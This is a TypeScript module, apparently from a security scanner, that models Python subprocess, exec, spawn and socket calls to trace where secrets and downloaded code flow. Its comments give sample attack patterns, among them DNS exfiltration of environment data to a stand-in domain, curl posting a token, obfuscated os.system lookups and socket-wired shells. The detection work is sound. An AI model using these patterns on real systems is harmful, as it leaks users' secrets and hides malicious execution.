import type { Fact, ProcessFact } from '../../facts.js';
import { isSensitivePath } from '../../sensitive-paths.js';
import { printedSecretTaint } from '../printed-secret-taint.js';
import {
  DECODED,
  ENVIRONMENT,
  NETWORK,
  SECRET,
  SENSITIVE_FILE,
  taintBits,
  taintList,
} from '../shell/taint-bits.js';
import { argOf, type CallHandler, type CallInfo } from './call-info.js';
import { isExact, type PyValue, textOf } from './python-value.js';
import type { PythonWalker } from './python-walker.js';

/** What a command's output carries, read from the facts of the command. */
function outputTaint(facts: readonly Fact[]): number {
  let taint = 0;
  for (const f of facts) {
    if (f.kind === 'network' && f.op === 'fetch') taint |= NETWORK;
    else if (f.kind === 'file' && f.op === 'read' && f.purpose !== 'authenticate')
      taint |= taintBits(f.content) | (isSensitivePath(f.path) ? SENSITIVE_FILE : 0);
    else if (f.kind === 'env' && f.op === 'dump') taint |= ENVIRONMENT;
    else if (f.kind === 'process') taint |= printedSecretTaint(f);
  }
  return taint;
}

/**
 * A word of a command line as the shell extractor reads it back. Known text is quoted unless plainly
 * safe; text with unknown parts keeps its placeholders literally (`'$TMPDIR/tool'`), so the path a
 * download was saved to is the path that runs; a word not known at all stays a variable.
 */
function shellWord(value: PyValue, index: number): string {
  // A secret not known as text stays a secret-named variable, so `curl -d <token> url` sends a secret.
  if (value.strs === undefined)
    return (value.taint & SECRET) !== 0 ? `"$ARG${index}_SECRET"` : `"$ARG${index}"`;
  const text = textOf(value);
  if (isExact(value) && /^[\w@%+=:,./~-]+$/.test(text)) return text;
  // `os.environ["GITHUB_TOKEN"]` is held as `$GITHUB_TOKEN`: double quotes let the shell read the variable.
  if ((value.taint & SECRET) !== 0) return `"${text.replace(/["\\`]/g, '\\$&')}"`;
  return `'${text.replace(/'/g, `'\\''`)}'`;
}

interface Launch {
  stdin?: number;
  /** Text written to the program's standard input (`input=…`, `communicate(…)`), when known. */
  input?: PyValue;
  socket?: boolean;
  background?: boolean;
  script?: boolean;
  /** Told the fact of the program started, so that a later `wait()` can say it was waited for. */
  started?: (fact: ProcessFact) => void;
  /** The launching function was reached by a name built to hide it (`getattr(os, "sys" + "tem")`). */
  hidden?: 'split' | 'decoded';
}

/** Marks the programs a Python call started with what Python wired to them. */
function finish(walker: PythonWalker, facts: readonly Fact[], how: Launch): void {
  const first = facts.find(
    (f): f is ProcessFact => f.kind === 'process' && (how.input === undefined || f.program !== 'printf'),
  );
  if (first === undefined) return;
  if (how.stdin !== undefined && how.stdin !== 0) first.stdin = taintList(taintBits(first.stdin) | how.stdin);
  if (how.socket === true || walker.stdioSocket) first.socketStdio = true;
  if (how.background !== undefined) first.background = how.background;
  how.started?.(first);
  if (how.script === true) first.runsSelf = true;
  if (how.hidden !== undefined) first.obfuscated = how.hidden;
}

/**
 * A command string handed to a shell: its facts are the shell extractor's; a string not known in full
 * (or decoded, or downloaded) is also code built at run time.
 */
export function runShell(walker: PythonWalker, call: CallInfo, command: PyValue, launch: Launch): PyValue {
  const how = withHidden(call, launch);
  if (!isExact(command) || (command.taint & (DECODED | NETWORK)) !== 0) {
    walker.emit({
      kind: 'exec',
      api: 'shell',
      input: taintList(command.taint),
      line: walker.lineOf(call.node),
      text: walker.textOf(call.node),
      ...(isExact(command) ? { code: textOf(command) } : {}),
    });
  }
  const facts = walker.shell(textOf(command, '$CMD'), call.node, command.taint);
  finish(walker, facts, how);
  return { taint: outputTaint(facts) | (command.taint & (NETWORK | SECRET)) };
}

/** Options whose value is the request's own credential (a header, a login), not data it sends. */
const CREDENTIAL_OPTION_RE =
  /^(?:-H|--header|-u|--user|--oauth2-bearer|--proxy-user|--http-user|--http-password|--password)$/;

/** An argument vector started without a shell, read as the equivalent command line. */
export function runArgv(walker: PythonWalker, call: CallInfo, argv: PyValue[], launch: Launch): PyValue {
  const how = withHidden(call, launch);
  if (argv.length === 0) return { taint: 0 };
  let line = argv.map((a, i) => shellWord(a, i)).join(' ');
  // Known input is piped in as the shell would: `crontab -` reads the jobs it installs from it.
  if (how.input?.strs !== undefined)
    line = `printf '%s' ${shellWord({ ...how.input, exact: false }, 0)} | ${line}`;
  let taint = 0;
  for (const a of argv) taint |= a.taint;
  const facts = walker.shell(line, call.node, taint);
  // The shell sees each word as text only: a name looked up or an address fetched that a tainted element
  // spells (`["nslookup", f"{hex_of_env}.zone.example"]`) carries that element's data, as it does in a
  // shell script (`nslookup "$(printenv | xxd -p).zone.example"`).
  // A request that sends data (`curl -d f"t={token}" URL`) sends the tainted elements that are not its
  // own credential (a header or `-u` value): what the shell reads as a literal word is the Python value.
  for (const f of facts) {
    if (f.kind !== 'network') continue;
    let carried = 0;
    argv.forEach((a, i) => {
      if (a.taint === 0 || i === 0) return;
      const spells = f.target !== undefined && a.strs?.includes(f.target) === true;
      const credential =
        CREDENTIAL_OPTION_RE.test(textOf(argv[i - 1] as PyValue, '')) ||
        /^\s*authorization:/i.test(textOf(a, ''));
      if (spells || (f.op === 'send' && !credential)) carried |= a.taint;
    });
    if (carried !== 0) f.sends = taintList(taintBits(f.sends) | carried);
  }
  const script = argv.some((a, i) => i > 0 && a.script === true) && /python/.test(textOf(argv[0] as PyValue));
  finish(walker, facts, { ...how, ...(script ? { script } : {}) });
  // A program whose path was built at run time (`os.path.join(tempfile.mkdtemp(), "tool")`) is still
  // the file at that path: what the unit saved there is what runs.
  const program = argv[0] as PyValue;
  const started = facts.find((f): f is ProcessFact => f.kind === 'process' && f.program === '<dynamic>');
  if (started !== undefined && program.strs !== undefined && !isExact(program)) {
    const path = textOf(program);
    started.program = path.slice(path.lastIndexOf('/') + 1) || path;
    started.runsFile = path;
  }
  return { taint: outputTaint(facts) };
}

function withHidden(call: CallInfo, how: Launch): Launch {
  const hidden = call.callee.hiddenName;
  return hidden === undefined ? how : { ...how, hidden };
}

function stdioOf(call: CallInfo): Launch {
  const stdin = call.kw.get('stdin');
  const stdout = call.kw.get('stdout');
  const input = call.kw.get('input');
  const socket = [stdin, stdout].some((v) => v?.obj?.kind === 'socket');
  return {
    stdin: (input?.taint ?? 0) | (stdin?.taint ?? 0),
    ...(socket ? { socket } : {}),
    ...(input === undefined ? {} : { input }),
  };
}

/** `subprocess.run(…)`, `Popen(…)`: a list is an argv, a string with `shell=True` a command line. */
const subprocessCall =
  (background: boolean): CallHandler =>
  (walker, call) => {
    const target = argOf(call, 0, 'args');
    if (target === undefined) return { taint: 0 };
    // `run`, `call` and `check_*` wait for the program; a `Popen` runs beside the caller until waited for.
    const obj: { kind: 'process'; argv?: PyValue[]; fact?: ProcessFact } = { kind: 'process' };
    const how: Launch = { ...stdioOf(call), background, started: (fact) => (obj.fact = fact) };
    const shell = call.kw.get('shell')?.truthy === true;
    const result =
      target.items !== undefined && !shell
        ? runArgv(walker, call, target.items, how)
        : shell || target.items === undefined
          ? shell
            ? runShell(walker, call, target.items?.[0] ?? target, how)
            : runArgv(walker, call, [target], how)
          : runArgv(walker, call, target.items, how);
    if (call.kw.get('stdin')?.ref === 'subprocess.PIPE' && target.items !== undefined)
      obj.argv = target.items;
    return { ...result, obj };
  };

const shellCall =
  (background: boolean): CallHandler =>
  (walker, call) => {
    const command = argOf(call, 0, 'cmd') ?? argOf(call, 0, 'command');
    if (command === undefined) return { taint: 0 };
    return runShell(walker, call, command, background ? { background } : {});
  };

/** `os.execv(path, argv)`, `os.execl(path, arg0, …)`, `os.spawnv(mode, path, argv)`. */
const execCall =
  (firstArg: number, vector: boolean): CallHandler =>
  (walker, call) => {
    const path = call.args[firstArg];
    if (path === undefined) return { taint: 0 };
    const rest = vector ? (call.args[firstArg + 1]?.items ?? []).slice(1) : call.args.slice(firstArg + 2);
    return runArgv(walker, call, [path, ...rest], {});
  };

const ptySpawn: CallHandler = (walker, call) => {
  const argv = call.args[0];
  if (argv === undefined) return { taint: 0 };
  return runArgv(walker, call, argv.items ?? [argv], {});
};

const asyncExec: CallHandler = (walker, call) => runArgv(walker, call, call.args, stdioOf(call));

/** `os.dup2(sock.fileno(), 0)`: the process's own standard streams become the socket. */
const dup2: CallHandler = (walker, call) => {
  const from = call.args[0];
  if (from?.obj?.kind === 'socket') walker.stdioSocket = true;
  return { taint: 0 };
};

const fork: CallHandler = (walker) => {
  walker.noteFork();
  return { taint: 0, int: 0 };
};

const entries: [string, CallHandler][] = [
  ['os.system', shellCall(false)],
  ['os.popen', shellCall(false)],
  ['subprocess.getoutput', shellCall(false)],
  ['subprocess.getstatusoutput', shellCall(false)],
  ['asyncio.create_subprocess_shell', shellCall(true)],
  ['pexpect.run', shellCall(false)],
  ['pexpect.spawn', shellCall(true)],
  ['subprocess.run', subprocessCall(false)],
  ['subprocess.call', subprocessCall(false)],
  ['subprocess.check_call', subprocessCall(false)],
  ['subprocess.check_output', subprocessCall(false)],
  ['subprocess.Popen', subprocessCall(true)],
  ['asyncio.create_subprocess_exec', asyncExec],
  ['pty.spawn', ptySpawn],
  ['os.dup2', dup2],
  ['multiprocessing.Process', () => ({ taint: 0, obj: { kind: 'process', copy: true } })],
  ['multiprocessing.get_context', () => ({ taint: 0, ref: 'multiprocessing' })],
  ['os.fork', fork],
  ['os.forkpty', fork],
  ['pty.fork', fork],
];
for (const name of ['execv', 'execve', 'execvp', 'execvpe']) entries.push([`os.${name}`, execCall(0, true)]);
for (const name of ['execl', 'execle', 'execlp', 'execlpe']) entries.push([`os.${name}`, execCall(0, false)]);
for (const name of ['spawnv', 'spawnve', 'spawnvp', 'spawnvpe'])
  entries.push([`os.${name}`, execCall(1, true)]);
for (const name of ['spawnl', 'spawnle', 'spawnlp', 'spawnlpe'])
  entries.push([`os.${name}`, execCall(1, false)]);
entries.push(['os.posix_spawn', execCall(0, true)], ['os.posix_spawnp', execCall(0, true)]);

export const PROCESS_CALLS: ReadonlyMap<string, CallHandler> = new Map(entries);

/** What a finished process exposes: its output carries what the command printed. */
export function processProperty(self: PyValue, name: string): PyValue | undefined {
  if (self.obj?.kind !== 'process') return undefined;
  if (name === 'stdout' || name === 'stderr' || name === 'output')
    return { taint: self.taint, elem: { taint: self.taint } };
  if (name === 'returncode' || name === 'pid') return { taint: 0 };
  return undefined;
}

/** `p.communicate(data)` on a program started with `stdin=PIPE`: the data is its input. */
export function processMethod(
  walker: PythonWalker,
  call: CallInfo,
  self: PyValue,
  name: string,
): PyValue | undefined {
  const obj = self.obj;
  if (obj?.kind !== 'process') return undefined;
  const input = argOf(call, 0, 'input');
  if (name === 'communicate' && obj.argv !== undefined && input !== undefined) {
    const out = runArgv(walker, call, obj.argv, { input, stdin: input.taint });
    return { taint: self.taint | out.taint, items: [{ taint: self.taint | out.taint }, { taint: 0 }] };
  }
  // A `multiprocessing.Process` started is a copy of this program.
  if (name === 'start' && obj.copy === true) {
    walker.noteFork(obj);
    return { taint: 0 };
  }
  if (name === 'join' || name === 'wait' || name === 'communicate') {
    walker.noteJoined(obj);
    if (obj.fact !== undefined) obj.fact.background = false;
  }
  if (name === 'communicate' || name === 'wait' || name === 'poll')
    return { taint: self.taint, items: [{ taint: self.taint }, { taint: 0 }] };
  return undefined;
}
